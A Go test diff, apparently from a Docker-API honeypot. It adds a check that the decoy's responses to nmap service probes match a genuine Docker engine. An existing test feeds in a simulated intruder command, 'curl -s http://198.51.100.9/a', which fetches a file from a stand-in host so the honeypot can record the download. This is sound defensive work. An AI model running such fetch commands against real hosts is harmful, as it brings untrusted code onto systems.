@@ -7,6 +7,7 @@ import (
 	"io"
 	"net/http"
 	"net/netip"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -238,4 +239,20 @@ func TestEvidence(t *testing.T) {
 	r.do(t, "POST", "/containers/"+id+"/start", "")
 	r.commanded("curl -s http://198.51.100.9/a")
 	r.saw("download", func(o *observe.Observation) bool { return o.Fetch != nil && o.Fetch.URL == "http://198.51.100.9/a" })
+}
+
+// The answers by which nmap (service probes HTTPOptions and GetRequest) knows
+// an engine and its version.
+func TestScannersKnowIt(t *testing.T) {
+	r := start(t)
+	d := r.host.Docker
+	version := regexp.MustCompile(`^HTTP/1\.0 200 OK\r\nApi-Version: ([\d.]+)\r\nDocker-Experimental: false\r\nOstype: (.+)\r\nServer: Docker/(\d[\w.-]*) \(.*\)\r\nDate: .*\r\nContent-Length: 0\r\n\r\n`)
+	g := version.FindStringSubmatch(string(r.Visit([]byte("OPTIONS / HTTP/1.0\r\n\r\n"))))
+	if len(g) != 4 || g[1] != d.APIVersion || g[3] != d.Version {
+		t.Errorf("options: %q", g)
+	}
+	soft := regexp.MustCompile(`^HTTP/1\.0 404 Not Found\r\nContent-Type: application/json\r\nDate: .*\r\nContent-Length: 29\r\n\r\n\{"message":"page not found"\}\n`)
+	if got := r.Visit([]byte("GET / HTTP/1.0\r\n\r\n")); !soft.Match(got) {
+		t.Errorf("front page: %q", got)
+	}
 }
